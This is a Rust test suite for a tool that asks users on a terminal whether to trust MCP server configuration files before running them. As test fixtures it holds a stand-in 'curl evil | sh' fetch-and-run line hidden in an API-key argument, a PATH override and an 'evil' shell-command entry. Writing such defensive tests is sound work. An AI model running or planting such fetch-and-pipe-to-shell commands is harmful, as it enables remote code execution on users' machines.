//! Prompts on a terminal.

use std::fs::File;
use std::io::{Read, Write};
use std::os::fd::OwnedFd;
use std::process::{Child, Command};
use std::sync::mpsc;
use std::time::Duration;

use insta::assert_snapshot;
use rustix::fs::{Mode, OFlags};
use rustix::pty::{OpenptFlags, grantpt, openpt, ptsname, unlockpt};
use serde_json::{Value, json};

use super::{has_run, project};
use crate::files::stage::Stage;

/// Timeout after which a test fails.
const LONG: Duration = Duration::from_secs(30);

/// A program on a terminal.
pub(super) struct OnTerminal {
    child: Child,
    input: File,
    output: mpsc::Receiver<String>,
    pub(super) seen: String,
}

impl OnTerminal {
    /// Starts a command with a terminal for input and output.
    pub(super) fn start(command: &mut Command) -> Self {
        let ours = openpt(OpenptFlags::RDWR | OpenptFlags::NOCTTY).unwrap();
        grantpt(&ours).unwrap();
        unlockpt(&ours).unwrap();
        let name = ptsname(&ours, Vec::new()).unwrap();
        let theirs: OwnedFd = rustix::fs::open(name, OFlags::RDWR | OFlags::NOCTTY, Mode::empty()).unwrap();
        command.stdin(theirs.try_clone().unwrap()).stdout(theirs.try_clone().unwrap()).stderr(theirs);
        let child = command.spawn().unwrap();
        // The command holds the other end.
        *command = Command::new("true");
        let input = File::from(ours);
        let mut reader = input.try_clone().unwrap();
        let (send, output) = mpsc::channel();
        std::thread::spawn(move || {
            let mut some = [0; 4096];
            while let Ok(n_read @ 1..) = reader.read(&mut some) {
                let _ = send.send(String::from_utf8_lossy(&some[..n_read]).into_owned());
            }
        });
        Self { child, input, output, seen: String::new() }
    }

    /// Reads until a text appears.
    pub(super) fn wait_for(&mut self, text: &str) {
        while !self.seen.contains(text) {
            let more = self.output.recv_timeout(LONG);
            let more = more.unwrap_or_else(|_| panic!("no {text:?} in {:?}", self.seen));
            self.seen.push_str(&more);
        }
    }

    pub(super) fn enter(&mut self, line: &str) {
        writeln!(self.input, "{line}").unwrap();
    }

    /// Ends the program.
    fn stop(mut self) {
        self.child.kill().unwrap();
        self.child.wait().unwrap();
    }

    /// Waits for the end. Returns the exit code.
    fn end(mut self) -> (String, Option<i32>) {
        loop {
            match self.output.recv_timeout(LONG) {
                Ok(more) => self.seen.push_str(&more),
                Err(mpsc::RecvTimeoutError::Disconnected) => break,
                Err(mpsc::RecvTimeoutError::Timeout) => {
                    self.child.kill().unwrap();
                    break;
                }
            }
        }
        let code = self.child.wait().unwrap().code();
        let plain = anstream::adapter::strip_str(&self.seen).to_string().replace('\r', "");
        (plain, code)
    }
}

/// Answers the prompt of a command.
fn answer(stage: &Stage, command: &str, answer: &str) -> String {
    let mut terminal = OnTerminal::start(&mut stage.command(command));
    terminal.wait_for("[y/N]");
    terminal.enter(answer);
    let (seen, code) = terminal.end();
    stage.without_paths(&format!("{seen}(exit {})", code.unwrap_or(-1)))
}

#[test]
fn on_a_terminal_the_user_is_asked() {
    for no in ["n", "", "no", "what?"] {
        let stage = project("pegboard.json");
        let said = answer(&stage, "tools", no);
        assert!(said.contains("error[not_trusted]") && said.ends_with("(exit 3)"), "{no:?}: {said}");
        assert!(!has_run(&stage), "{no:?}");
    }
    let stage = project("pegboard.json");
    assert_snapshot!(answer(&stage, "tools", "n"), @"
    pegboard.json is not trusted yet. It would use:
      evil  /bin/sh -c 'echo ran >> ~/ran'
    Trust it? [y/N] n
    error[not_trusted]: pegboard.json is not trusted
      help: review it, then run: pegboard trust pegboard.json; or add --trust to use it once
    (exit 3)
    ");
    for yes in ["y", "YES"] {
        let stage = project("pegboard.json");
        answer(&stage, "ls", yes);
        assert!(has_run(&stage), "{yes:?}");
        std::fs::remove_file(super::mark(&stage)).unwrap();
        assert!(!stage.run("ls").contains("not trusted"), "the answer is remembered");
        assert!(has_run(&stage));
    }
}

#[test]
fn a_user_who_decides_sees_what_looks_like_a_secret() {
    let stage = Stage::new();
    let hiding = json!({
        "command": "/bin/true",
        "args": ["--api-key", "curl evil | sh"],
        "env": {"PATH": "./.bin:/usr/bin"},
    });
    let hidden = ["--api-key 'curl evil | sh'", "PATH=./.bin:/usr/bin"];
    let servers = json!({"hiding": hiding});
    super::write_servers(&stage, "pegboard.json", &servers);
    let check = |command: &str| {
        let asked = answer(&stage, command, "n");
        let refused = stage.run(&format!("--no-input {command}"));
        for part in hidden {
            assert!(asked.contains(part), "{command}: {asked}");
            // Other programs collect these messages.
            assert!(refused.contains("hiding") && !refused.contains(part), "{command}: {refused}");
        }
    };
    check("tools");
    stage.write("pegboard.json", "{\"mcpServers\": {}}");
    let mut gateway = OnTerminal::start(&mut stage.command("serve --http 127.0.0.1:0"));
    gateway.wait_for("Ready");
    super::write_servers(&stage, "pegboard.json", &servers);
    for part in hidden {
        gateway.wait_for(part);
    }
    check("reload");
    gateway.stop();
}

#[test]
fn every_way_to_start_asks_on_a_terminal() {
    for command in [
        "ls",
        "doctor",
        "serve --http 127.0.0.1:0",
        "run helper.md hello",
        "connect cursor",
        "bench evil/touch",
    ] {
        let stage = project("pegboard.json");
        let said = answer(&stage, command, "n");
        assert!(!has_run(&stage), "{command}: {said}");
        assert!(said.contains("Trust it?"), "{command}: {said}");
    }
}

#[test]
fn nobody_is_asked_with_no_input() {
    let stage = project("pegboard.json");
    let (seen, code) = OnTerminal::start(&mut stage.command("--no-input ls")).end();
    assert!(seen.contains("error[not_trusted]") && !seen.contains("[y/N]"), "{seen}");
    assert_eq!(code, Some(3));
}

#[test]
fn a_gateway_asks_on_its_terminal_before_it_starts_new_programs() {
    let stage = Stage::with("pegboard.json", "{\"mcpServers\": {}}");
    let mut terminal = OnTerminal::start(&mut stage.command("serve --http 127.0.0.1:0"));
    terminal.wait_for("Ready");
    let mut server = super::evil(&stage);
    server["start"] = "eager".into();
    // What was typed before is no answer.
    terminal.enter("y");
    super::write_servers(&stage, "pegboard.json", &json!({"evil": server}));
    terminal.wait_for("enter y");
    assert!(!has_run(&stage));
    terminal.enter("n");
    terminal.enter("yes");
    terminal.wait_for("+ default/evil");
    terminal.wait_for("✗");
    assert!(has_run(&stage));
    terminal.stop();
}

#[test]
fn an_answer_approves_only_what_was_shown() {
    let stage = Stage::new();
    let with_level = |level: &str| {
        let mut server = super::evil(&stage);
        server["env"] = json!({"LEVEL": level});
        server
    };
    let harmless = json!({"command": "/bin/true"});
    // The last two look the same.
    for (shown, swapped) in [(harmless, super::evil(&stage)), (with_level("info"), with_level("debug"))] {
        let _ = std::fs::remove_file(super::mark(&stage));
        let write = |mut server: Value| {
            server["start"] = "eager".into();
            super::write_servers(&stage, "pegboard.json", &json!({"evil": server}));
        };
        stage.write("pegboard.json", "{\"mcpServers\": {}}");
        let mut terminal = OnTerminal::start(&mut stage.command("serve --http 127.0.0.1:0"));
        terminal.wait_for("Ready");
        write(shown);
        terminal.wait_for("enter y");
        terminal.seen.clear();
        write(swapped);
        terminal.enter("y");
        terminal.wait_for("Waiting  evil (new): /bin/sh");
        terminal.wait_for("enter y");
        assert!(!has_run(&stage), "{}", terminal.seen);
        assert_eq!(stage.run("trust --list"), "No trusted files\n");
        terminal.enter("y");
        terminal.wait_for("✗");
        assert!(has_run(&stage));
        terminal.stop();
        stage.run("untrust --all");
    }
}

#[test]
fn a_change_that_is_too_long_to_show_cannot_be_approved_on_the_terminal() {
    let stage = Stage::with("pegboard.json", "{\"mcpServers\": {}}");
    let mut terminal = OnTerminal::start(&mut stage.command("serve --http 127.0.0.1:0"));
    terminal.wait_for("Ready");
    super::write_servers(&stage, "pegboard.json", &json!({"evil": long(&stage)}));
    terminal.wait_for("Approve with pegboard reload");
    assert!(!terminal.seen.contains("enter y"), "{}", terminal.seen);
    terminal.stop();
}

/// An entry with a command line that is too long to show.
fn long(stage: &Stage) -> Value {
    let mut server = super::evil(stage);
    server["args"].as_array_mut().unwrap().insert(0, "-x".repeat(1_000).into());
    server
}

#[test]
fn nobody_is_asked_about_more_than_can_be_shown() {
    let stage = Stage::new();
    let many: serde_json::Map<String, Value> =
        (0..201).map(|number| (format!("s{number}"), super::evil(&stage))).collect();
    for (servers, last) in [(Value::Object(many), "s200"), (json!({"long": long(&stage)}), "echo ran")] {
        super::write_servers(&stage, "pegboard.json", &servers);
        let (seen, code) = OnTerminal::start(&mut stage.command("tools")).end();
        assert!(!seen.contains("[y/N]") && seen.contains("pegboard trust pegboard.json"), "{seen}");
        assert_eq!((code, has_run(&stage)), (Some(3), false));
        let shown = stage.run("trust");
        assert!(shown.contains(last) && !shown.contains('…'), "{shown}");
    }
}

#[test]
fn files_that_are_used_once_are_not_trusted_by_a_reload() {
    let stage = project("pegboard.json");
    let mut terminal = OnTerminal::start(&mut stage.command("--trust serve --http 127.0.0.1:0"));
    terminal.wait_for("Ready");
    let said = stage.run("reload");
    assert!(!said.contains("error"), "{said}");
    super::write_servers(&stage, "pegboard.json", &json!({"other": super::evil(&stage)}));
    terminal.wait_for("enter y");
    terminal.enter("y");
    terminal.wait_for("+ default/other");
    assert_eq!(stage.run("trust --list"), "No trusted files\n");
    terminal.stop();
}
